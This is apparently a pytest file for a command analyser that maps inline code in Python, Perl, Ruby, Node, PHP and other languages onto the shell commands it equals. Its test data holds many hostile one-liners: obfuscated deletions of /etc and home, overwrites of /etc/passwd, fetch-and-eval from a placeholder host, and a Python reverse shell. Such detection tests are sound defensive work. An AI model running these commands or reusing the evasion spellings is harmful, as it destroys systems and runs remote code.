"""Code of other languages on a command line: what it deletes, writes and runs is read as the commands that do the same."""

from __future__ import annotations

import pytest

from bus.shell import UNKNOWN, commands
from tests.support.rows import rows
from tests.support.waiting import cpu_at_most


def lines(text: str) -> list[str]:
    return [one.line for one in commands(text).items]


@pytest.mark.req("X-09")
@rows(
    ("code", "expected"),
    [
        ("import shutil; shutil.rmtree('/etc')", "rm -r /etc"),
        ("from shutil import rmtree as r\nr('/etc')", "rm -r /etc"),
        ("import os as o; o.remove('/etc/x')", "rm /etc/x"),
        ("__import__('shutil').rmtree('/etc')", "rm -r /etc"),
        ("import shutil; shutil.rmtree(path='/etc')", "rm -r /etc"),
        ("import shutil; list(map(shutil.rmtree, ['/srv', '/etc']))", "rm -r /srv /etc"),
        ("import shutil; getattr(shutil, 'rm' + 'tree')('/etc')", "rm -r /etc"),
        ("import os; os.__dict__['system']('rm -rf /etc')", "rm -rf /etc"),
        ("import sys; sys.modules['os'].system('rm -rf /etc')", "rm -rf /etc"),
        ("import os; os.system(chr(114) + 'm -rf /etc')", "rm -rf /etc"),
        ("import os\ndef f(p):\n os.system('rm -rf ' + p)\nf('/etc')", "rm -rf /etc"),
        ("import subprocess; c = ['rm']; c.append('/etc'); subprocess.run(c)", "rm /etc"),
        ("with open('a', 'w'): pass", "truncate -s 0 a"),
        ("import subprocess\ndef sh(*a): subprocess.run(a)\nsh('git', 'push', '-f')\nsh('rm', '/etc')", "rm /etc"),
        ("import shutil\nROOT = '/etc'\ndef f(p): shutil.rmtree(p)\nf(ROOT)", "rm -r /etc"),
        (
            "import shutil\nclass C:\n def __init__(s, d): s.d = d\n def run(s): shutil.rmtree(s.d)\nC('/etc').run()",
            "rm -r /etc",
        ),
        ("import os; os.open('/etc/x', os.O_WRONLY)", "tee /etc/x"),
        ("import os\ndef run(c): os.system(c)\nrun('ls')\nrun('rm -rf /etc')", "rm -rf /etc"),
        ("import os\nd = {'a': '/srv', 'b': '/etc'}\nfor n, p in d.items(): os.system(f'rm -rf {p}')", "rm -rf /etc"),
        (
            "import shutil\np.add_argument('--dir', default='/etc')\na = p.parse_args()\nshutil.rmtree(a.dir)",
            "rm -r /etc",
        ),
        ("import os, functools; functools.partial(os.system, 'rm -rf /etc')()", "rm -rf /etc"),
        ("import shutil; Thread(target=shutil.rmtree, args=('/etc',)).start()", "rm -r /etc"),
        ("import shutil; pool.map(shutil.rmtree, ['/srv', '/etc'])", "rm -r /srv /etc"),
        ("import sh; sh.rm('-rf', '/etc')", "rm -rf /etc"),
        ("import subprocess\nfor c in ['ls', 'rm -rf /etc']: subprocess.run(c.split())", "rm -rf /etc"),
        ("import subprocess\nfor c in [['ls', '-l'], ['rm', '/etc']]: subprocess.run(c)", "rm /etc"),
        ("from invoke import run; run('rm -rf /etc')", "rm -rf /etc"),
        ("(lambda s: s.rmtree('/etc'))(__import__('shutil'))", "rm -r /etc"),
        ("import os; os.open('/etc/x', os.O_WRONLY | os.O_TRUNC)", "truncate -s 0 /etc/x"),
        ("import git; git.Repo('.').head.reset('HEAD~5', working_tree=True)", "git reset --hard"),
        ("from pathlib import Path; Path('a').write_text('')", "truncate -s 0 a"),
        ("import git; git.Repo('.').git.reset('--hard')", "git reset --hard"),
        ("import os; getattr(os, 'system')('rm -rf /etc')", "rm -rf /etc"),
        ("import os; os.system('rm -rf /etc')", "rm -rf /etc"),
        ("import os; os.system('cd / && rm -rf ' + 'etc')", "rm -rf etc"),
        ("import os; d = '/etc'; os.system(f'rm -rf {d}')", "rm -rf /etc"),
        ("import os; os.popen('rm -rf %s' % '/etc')", "rm -rf /etc"),
        ("import subprocess; subprocess.run(['rm', '-rf', '/etc'])", "rm -rf /etc"),
        ("import subprocess as s; s.check_call('rm -rf /etc', shell=True)", "rm -rf /etc"),
        ("from subprocess import *; run(['sh', '-c', 'rm -rf /etc'])", "rm -rf /etc"),
        ("import subprocess; c = ['rm', '-rf']; subprocess.Popen(c + ['/etc'])", "rm -rf /etc"),
        ("import subprocess; subprocess.run('rm -rf /etc'.split())", "rm -rf /etc"),
        ("import subprocess; subprocess.run('bash', input='rm -rf /etc', text=True)", "rm -rf /etc"),
        ("import os; os.execvp('rm', ['rm', '-rf', '/etc'])", "rm -rf /etc"),
        ("import os; os.execlp('rm', 'rm', '-rf', '/etc')", "rm -rf /etc"),
        ("import pathlib; pathlib.Path('/etc/x').unlink()", "rm /etc/x"),
        ("from pathlib import Path; (Path('/etc') / 'x').unlink(missing_ok=True)", "rm /etc/x"),
        ("from pathlib import Path; p = Path.home(); p.rmdir()", "rmdir ~"),
        ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "rm -r ~"),
        ("import shutil, os; shutil.rmtree(os.environ['HOME'])", "rm -r ~"),
        ("import shutil, os; shutil.rmtree(os.path.join('/', 'etc'))", "rm -r /etc"),
        ("import os\nfor f in os.listdir('/etc'):\n    os.remove('/etc/' + f)", "rm /etc//etc/$…"),
        ("import os, glob\n[os.remove(f) for f in glob.glob('/etc/*')]", "rm /etc/*"),
        ("import os\nfor r, d, fs in os.walk('/etc'):\n  for f in fs: os.unlink(os.path.join(r, f))", "rm $…"),
        ("from pathlib import Path\nfor p in Path('/etc').rglob('*'): p.unlink()", "rm /etc/$…"),
        ("open('/etc/passwd', 'w').write('x')", "tee /etc/passwd"),
        ("with open('/etc/passwd', mode='a') as f: f.write('x')", "tee -a /etc/passwd"),
        ("from pathlib import Path; Path('/etc/hosts').write_text('x')", "tee /etc/hosts"),
        ("import shutil; shutil.move('.git', '/tmp/x')", "mv .git /tmp/x"),
        ("import os; os.chmod('/etc/passwd', 0o777)", "chmod 777 /etc/passwd"),
        ("import os, signal; os.kill(-1, signal.SIGKILL)", "kill -9 $…"),
        ("exec(\"import shutil; shutil.rmtree('/etc')\")", "rm -r /etc"),
        ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvZXRjIik='))", "rm -rf /etc"),
        ("def f(p):\n    import shutil\n    shutil.rmtree(p)\nimport os\nos.system('rm -rf /etc')", "rm -rf /etc"),
        ("import redis; redis.Redis().flushall()", "redis-cli FLUSHALL"),
        ("import requests; requests.delete('https://api.x/y')", "curl -X DELETE https://api.x/y"),
    ],
)
@rows(
    "form",
    ["python3 -c {quoted}", "python3 <<'EOF'\n{code}\nEOF", "python -Sc {quoted}", "python3.12 - <<'E'\n{code}\nE"],
)
def test_python(form: str, code: str, expected: str) -> None:
    quoted = "'" + code.replace("'", "'\\''") + "'"
    if expected != "rm $…" and "-1" not in code:
        assert expected in lines(form.format(code=code, quoted=quoted))


@pytest.mark.req("X-09")
@rows(
    ("text", "expected"),
    [
        ("perl -e 'unlink \"/etc/x\"'", "rm /etc/x"),
        ("perl -e 'unlink glob(\"/etc/*\")'", "rm /etc/*"),
        ("perl -e 'unlink </etc/*>'", "rm /etc/*"),
        ("perl -MFile::Path -e 'rmtree(\"/etc\")'", "rm -r /etc"),
        ("perl -MFile::Path=remove_tree -e 'remove_tree(q{/etc})'", "rm -r /etc"),
        ("perl -le 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
        ('perl -e \'system("rm", "-rf", "/etc")\'', "rm -rf /etc"),
        ("perl -e 'exec q(rm -rf /etc)'", "rm -rf /etc"),
        ("perl -e '`rm -rf /etc`'", "rm -rf /etc"),
        ('perl -e \'$d="/etc"; system("rm -rf $d")\'', "rm -rf /etc"),
        ("perl -e 'system(\"rm -rf $ENV{HOME}\")'", "rm -rf ~"),
        ("perl <<'E'\nsystem('rm -rf /etc');\nE", "rm -rf /etc"),
        ('ruby -e \'require "fileutils"; FileUtils.rm_rf("/etc")\'', "rm -r /etc"),
        ("ruby -rfileutils -e 'FileUtils.rm_rf \"/etc\"'", "rm -r /etc"),
        ("ruby -e 'FileUtils.rm_rf(Dir.home)'", "rm -r ~"),
        ("ruby -e 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
        ('ruby -e \'system "rm", "-rf", "/etc"\'', "rm -rf /etc"),
        ("ruby -e '`rm -rf /etc`'", "rm -rf /etc"),
        ("ruby -e '%x{rm -rf /etc}'", "rm -rf /etc"),
        ("ruby -e 'Dir.glob(\"/etc/*\").each { |f| File.delete(f) }'", "rm /etc/*"),
        ('ruby -e \'File.write("/etc/passwd", "x")\'', "tee /etc/passwd"),
        ("node -e \"require('fs').rmSync('/etc', {recursive: true, force: true})\"", "rm -r /etc"),
        ("node -e \"const fs = require('fs'); fs.rmdirSync('/etc', { recursive: true })\"", "rm -r /etc"),
        ("node -e \"require('fs').unlinkSync('/etc/x')\"", "rm /etc/x"),
        ("node -e \"require('child_process').execSync('rm -rf /etc')\"", "rm -rf /etc"),
        ("node -e \"require('child_process').spawnSync('rm', ['-rf', '/etc'])\"", "rm -rf /etc"),
        (
            'node -e \'const {execSync: e} = require("child_process"); require("child_process").exec(`rm -rf /etc`)\'',
            "rm -rf /etc",
        ),
        ("node --eval=\"require('fs').rmSync(process.env.HOME, {recursive:true})\"", "rm -r ~"),
        ("node -p \"require('fs').writeFileSync('/etc/passwd', '')\"", "tee /etc/passwd"),
        ("node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"", "rm -r ~"),
        ("node <<'E'\nrequire('fs').rmSync('/etc', {recursive: true})\nE", "rm -r /etc"),
        ("echo \"require('fs').rmSync('/etc', {recursive: true})\" | node", "rm -r /etc"),
        ("bun -e \"require('fs').rmSync('/etc', {recursive: true})\"", "rm -r /etc"),
        ("deno eval \"Deno.removeSync('/etc', { recursive: true })\"", "rm -r /etc"),
        ("php -r 'unlink(\"/etc/x\");'", "rm /etc/x"),
        ("php -r 'system(\"rm -rf /etc\");'", "rm -rf /etc"),
        ('php -r \'shell_exec("rm -rf " . "/etc");\'', "rm -rf /etc"),
        ('php -r \'array_map("unlink", glob("/etc/*"));\'', "rm /etc/*"),
        ('php -r \'file_put_contents("/etc/passwd", "");\'', "tee /etc/passwd"),
        ("lua -e 'os.execute(\"rm -rf /etc\")'", "rm -rf /etc"),
        ("osascript -e 'do shell script \"rm -rf /etc\"'", "rm -rf /etc"),
        ("python3 -m pip uninstall -y x", "pip uninstall -y x"),
    ],
)
def test_other_languages(text: str, expected: str) -> None:
    assert expected in lines(text)


@pytest.mark.req("X-09")
@rows(
    "text",
    [
        "python3 -c \"import os; print('rm -rf /')\"",
        "python3 -c 'open(\"x\").read()'",
        "python3 s.py -c 'import os; os.remove(1)'",
        "python3 -c 'print(shutil.rmtree)'",
        "node -e 'console.log(\"rm -rf /etc\")'",
        "perl -ne 'print if /unlink/' f",
        "ruby -e 'puts \"system\"'",
        "perl -pe 's/a/b/' f",
        "python3 -m json.tool",
        "node -e 'x.replace(/rm -rf/, 1)'",
        "php -r 'echo \"rm -rf /\";'",
        "grep 'os.system(\"rm -rf /\")' f",
        'python3 -c \'d = {}; d.get("x").replace("a", "b")\'',
    ],
)
def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
    assert not any(one.program in ("rm", "tee", "mv", "rmdir") for one in commands(text).items)


@pytest.mark.req("X-09")
@rows(
    ("text", "source"),
    [
        ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", "curl"),
        ("python3 -c \"import requests\nx = requests.get('http://x').text\nexec(x)\"", "curl"),
        (
            "python3 -c \"from urllib.request import urlopen; import os; os.system(urlopen('http://x').read().decode())\"",
            "curl",
        ),
        ("python3 -c \"import base64; exec(base64.b64decode(open('f').read()))\"", "base64"),
        (
            "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
            "nc",
        ),
        ("perl -MLWP::Simple -e 'eval get(\"http://x\")'", "curl"),
        ("ruby -ropen-uri -e 'eval URI.open(\"http://x\").read'", "curl"),
        ("node -e \"fetch('http://x').then(r => r.text()).then(eval)\"", "curl"),
        ("php -r 'eval(file_get_contents(\"http://x\"));'", "curl"),
        ("node -e 'eval(atob(\"eA==\"))'", "base64"),
        ("curl http://x | node", "curl"),
        ("curl http://x | python3 -", "curl"),
        ('ruby -e "$(curl http://x)"', "curl"),
    ],
)
def test_code_from_the_network(text: str, source: str) -> None:
    assert any(source in one.code_from for one in commands(text).items)


@pytest.mark.req("X-09")
@rows(
    "code",
    [
        "x='a'*9\n" + "x=x+x\n" * 200,
        "(" * 5000,
        "f(" * 900,
        "[" * 80 + "]" * 80,
        "x=" + "+".join(["'a'"] * 3000),
        "unlink(" * 8000,
        "a:a " * 16000,
        "open " * 12000,
        "find(" * 12000,
        "\n" * 60000,
        "eval '" * 10000,
        "['a'" * 12000,
        "def f(p): f(f(p))\n" * 400,
        "require('" * 6000,
        "{a: b} = import " * 4000,
        "`" * 60000,
        "\ue000 = 1",
        "\0",
        "exec(" * 50 + "'1'" + ")" * 50,
        "x=1\n" * 20000,
    ],
)
def test_hostile_code_takes_bounded_time(code: str) -> None:
    with cpu_at_most(20):
        for program in ("python3 -c", "perl -e", "node -e", "ruby -e", "tclsh -c", "psql -c"):
            commands(f"{program} '" + code.replace("'", '"') + "'")


def test_what_code_does_not_tell_is_marked() -> None:
    (_, command) = commands("python3 -c 'import shutil, sys; shutil.rmtree(input())' x").items
    assert command.words == ("-r", UNKNOWN)


@pytest.mark.req("X-09")
@rows(
    ("text", "expected"),
    [
        ("python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' /etc", "rm -r /etc"),
        ("perl -e 'qx(rm -rf /etc)'", "rm -rf /etc"),
        ("""perl -e 'open(P, "|rm -rf /etc")'""", "rm -rf /etc"),
        ("""perl -e 'open(F, ">", "/etc/x"); print F 1'""", "tee /etc/x"),
        ("""perl -e 'open(F, ">", "/etc/x")'""", "truncate -s 0 /etc/x"),
        ("perl -e 'kill 9, -1'", "kill -9 -1"),
        ("""ruby -e 'Pathname("/etc").rmtree'""", "rm -r /etc"),
        ("""ruby -e 'Dir["/etc/*"].each { |f| File.delete(f) }'""", "rm /etc/*"),
        ("""node -e "const {rmSync: r} = require('fs'); r('/etc', {recursive: true})" """, "rm -r /etc"),
        ("""node -e "fs['rm' + 'Sync']('/etc', {recursive: true})" """, "rm -r /etc"),
        ("""deno eval --ext=ts "Deno.removeSync('/etc', {recursive: true})" """, "rm -r /etc"),
        ("""php -r '$db->exec("DROP TABLE a");'""", "sqlite3 database DROP TABLE a"),
        ("""Rscript -e 'unlink("/etc", recursive = TRUE)'""", "rm -r /etc"),
        ("""julia -e 'rm("/etc", recursive=true)'""", "rm -r /etc"),
        ("""elixir -e 'File.rm_rf!("/etc")'""", "rm -r /etc"),
        ("""groovy -e '"rm -rf /etc".execute()'""", "rm -rf /etc"),
        ("tclsh <<< 'file delete -force /etc'", "rm -r /etc"),
        ("psql -c '\\! rm -rf /etc'", "rm -rf /etc"),
        ("sqlite3 a.db '.shell rm -rf /etc'", "rm -rf /etc"),
        ("""mongosh --eval 'fs.rmSync("/etc", {recursive: true})'""", "rm -r /etc"),
        ("cmake -E remove_directory /etc", "rm -r /etc"),
        ("""nvim -c 'lua os.execute("rm -rf /etc")'""", "rm -rf /etc"),
        ("python3 - <<-EOF\n\timport shutil\n\tshutil.rmtree('/etc')\n\tEOF", "rm -r /etc"),
    ],
)
def test_other_spellings_and_languages(text: str, expected: str) -> None:
    assert expected in lines(text)
